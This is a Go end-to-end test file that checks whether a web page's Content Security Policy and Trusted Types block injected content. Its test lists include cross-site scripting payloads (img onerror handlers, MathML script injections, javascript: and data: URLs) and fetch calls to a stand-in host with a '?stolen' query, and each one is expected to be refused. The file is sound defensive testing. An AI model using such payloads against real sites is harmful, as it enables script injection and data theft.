@@ -1,0 +1,148 @@
+package e2e
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+)
+
+// attacks are what an injected script might do; each is refused by an exception, a rejection or an event, and nothing of it runs.
+var attacks = []string{
+	`document.body.innerHTML = "<img src=x onerror='globalThis.hit = 1'>"`,
+	`document.body.insertAdjacentHTML("beforeend", "<p>text</p>")`,
+	`document.write("<p>text</p>")`,
+	`document.createElement("iframe").srcdoc = "<p>text</p>"`,
+	`document.createElement("script").text = "globalThis.hit = 1"`,
+	`document.createElement("script").src = "assets/page.js"`,
+	`document.body.setAttribute("onclick", "globalThis.hit = 1")`,
+	`new DOMParser().parseFromString("<p>text</p>", "text/html")`,
+	`document.createRange().createContextualFragment("<p>text</p>")`,
+	`new Function("globalThis.hit = 1")()`,
+	`new Worker("data:text/javascript,postMessage(1)")`,
+	`new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])))`,
+	`new Worker("assets/worker.js")`,
+	`navigator.serviceWorker.register("sw.js")`,
+	`trustedTypes.createPolicy("triad", { createHTML: (s) => s })`,
+	`trustedTypes.createPolicy("default", { createHTML: (s) => s })`,
+	`fetch("assets/manifest.json")`,
+	`fetch("https://other.example/?stolen")`,
+	`new Promise((_, refused) => document.body.append(Object.assign(document.createElement("img"), { src: "https://other.example/x.png", onerror: refused })))`,
+	`new Promise((_, refused) => document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "data:text/css,p{}", onerror: refused })))`,
+}
+
+// onTheStage are the same against the stage's document.
+var onTheStage = []string{
+	`document.querySelector("#stage iframe").contentDocument.body.innerHTML = "<p>text</p>"`,
+	`document.querySelector("#stage iframe").contentWindow.trustedTypes.createPolicy("triad", { createHTML: (s) => s })`,
+	`document.querySelector("#stage iframe").contentWindow.fetch("https://other.example/?stolen")`,
+}
+
+// refuses tries attacks on a page.
+func (p *page) refuses(attacks []string) {
+	p.Helper()
+	// What browsers say of it: the watcher's words, and their own.
+	p.expects = append(p.expects, "refused: ", "Content Security Policy", "Content-Security-Policy", "TrustedHTML", "TrustedScript", "TrustedType", "Trusted Type", "exception: loading https://other.example/", "exception: loading data:", "request to another host: https://other.example/")
+	for _, attack := range attacks {
+		// Not at once: within what a driver evaluates, text may be run.
+		if got := jsValue[string](p, fmt.Sprintf("new Promise((go) => setTimeout(go)).then(async () => { await (%s); }).then(() => 'allowed', () => 'refused')", attack)); got != "refused" {
+			p.Errorf("allowed: %s", attack)
+		}
+	}
+	if jsValue[bool](p, "'hit' in globalThis") {
+		p.Error("an injected script has run")
+	}
+}
+
+// foreignTexts are no scripts of ours, and no markup of the catalogue.
+var foreignTexts = []string{
+	`script("page.js")`, `script("worker.js?other")`, `script("worker.js#pool")`, `script("../assets/worker.js/")`, `script("https://other.example/worker.js")`,
+	`script("//other.example/worker.js")`, `script("data:text/javascript,1")`, `script("blob:" + location.origin + "/1")`, `script("javascript:1")`,
+	`mathML("")`, `mathML("text")`, `mathML("<p></p>")`, `mathML("<math><script>globalThis.hit = 1</script></math>")`,
+	`mathML("<math><mi onclick=\"hit = 1\">x</mi></math>")`, `mathML("<math><mi class=\"x\" onclick=\"hit\">x</mi></math>")`, `mathML("<math href=\"javascript:hit\"></math>")`,
+	`mathML("<math><mtext><img src=x onerror=\"hit = 1\"></mtext></math>")`, `mathML("<math><annotation-xml encoding=\"text/html\"><p></p></annotation-xml></math>")`,
+	`mathML("<math><mi>x</mi></math><img src=x>")`, `mathML("<math><!--</math>")`, `mathML("<math><mi>&#60;</mi></math>")`, `mathML("<mathx></math>")`, `mathML("<math><mi/x></math>")`, `mathML("<math><mi\nid=\"x\"></mi></math>")`,
+}
+
+func TestThePageRefusesInjectedMarkupScriptsAndWorkers(t *testing.T) {
+	for name, prepare := range map[string]func(){
+		"by headers": func() {},
+		"by markup":  func() { hosted(t, dist()) }, // a host that sends no policy
+	} {
+		t.Run(name, func(t *testing.T) {
+			prepare()
+			p := open(t, "?autoplay=0").drawn()
+			p.refuses(attacks)
+			p.refuses(onTheStage)
+			p.js("import('./assets/trusted.js').then((m) => { Object.assign(globalThis, m); })", nil)
+			p.refuses(foreignTexts)
+			if got := jsValue[int](p, "triad.catalogue().then((c) => c.algorithms.filter((a) => String(mathML(a.equation)) === a.equation).length)"); got != 15 {
+				t.Errorf("of the catalogue %d equations pass, want all 15", got)
+			}
+			if got := jsValue[string](p, "['worker.js', 'worker.js?pool', 'worker.js?scalar', '../sw.js'].map((name) => String(script(name)).split('/').pop()).join()"); got != "worker.js,worker.js?pool,worker.js?scalar,sw.js" {
+				t.Errorf("scripts that pass: %s", got)
+			}
+		})
+	}
+}
+
+func TestThePageGivesUpDevicesAndKeepsTheClipboard(t *testing.T) {
+	p := open(t, "?autoplay=0").ready()
+	// Other engines than Chromium's do not tell, or have no such policy.
+	if given := jsValue[[]string](p, "(document.featurePolicy?.allowedFeatures() ?? []).filter((f) => /^(camera|microphone|geolocation|payment|usb|serial|hid|midi|fullscreen|gamepad|clipboard-read)$/.test(f))"); len(given) > 0 {
+		t.Errorf("the page may use %q", given)
+	}
+	if !jsValue[bool](p, "document.featurePolicy?.allowsFeature('clipboard-write') ?? true") {
+		t.Error("the page may not copy")
+	}
+}
+
+// A worker of a page that is kept has the policy that came with it, as the host's answer would.
+func TestWhatIsKeptKeepsItsPolicy(t *testing.T) {
+	p := open(t, "?autoplay=0").drawn()
+	p.until(kept)
+	p.reload()
+	p.drawn().until("navigator.serviceWorker.controller")
+	for _, name := range []string{"assets/worker.js", "assets/stage.html"} {
+		kept := fmt.Sprintf("caches.match(new URL('%s', location.href), { ignoreVary: true }).then((r) => r.headers.get('Content-Security-Policy'))", name)
+		if got := jsValue[string](p, kept); !strings.HasPrefix(got, "default-src 'none'; ") || !strings.Contains(got, "'wasm-unsafe-eval'") {
+			t.Errorf("%s is kept with the policy %q", name, got)
+		}
+	}
+}
+
+func TestPagesOfTextRunNothingThatIsInjected(t *testing.T) {
+	for _, address := range []string{"assets/about.html", "assets/errata.fr.html", "assets/examples/course.html"} {
+		p := open(t, address)
+		p.refuses(attacks)
+	}
+}
+
+func TestACoursePageOnADiskHasLiveFigures(t *testing.T) {
+	file := filepath.Join(t.TempDir(), "course.html")
+	html := `<!doctype html><meta charset="utf-8"><title>course</title><script type="module" src="` + site + `assets/embed.js"></script>` +
+		`<triad-lab preset="two-state" lambda="0.25" autoplay="0"></triad-lab>`
+	if err := os.WriteFile(file, []byte(html), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	p := openAt(t, "file://"+filepath.ToSlash(file), site)
+	p.agrees("customElements.whenDefined('triad-lab').then(() => document.querySelector('triad-lab').get()).then((s) => s.values.lambda === '0.25')")
+}
+
+// A sandbox that allows windows passes itself on to them.
+func TestTheWayOutOfASandboxedFigureLeadsToThePage(t *testing.T) {
+	b := blank(t)
+	f := b.faulty()
+	html := strings.Replace(speaker(f.URL+"/", "?embed&autoplay=0"), "allow-same-origin", "allow-same-origin allow-popups", 1)
+	p := openAt(t, host(t, html), f.URL+"/")
+	p.until("heard.some((m) => m.event === 'ready')")
+	before := f.count("worker.wasm")
+	p.at(640-40, 400-16)
+	for end := time.Now().Add(patience); f.count("worker.wasm") == before; time.Sleep(50 * time.Millisecond) {
+		if time.Now().After(end) {
+			t.Fatal("no page has started beside the figure")
+		}
+	}
+}
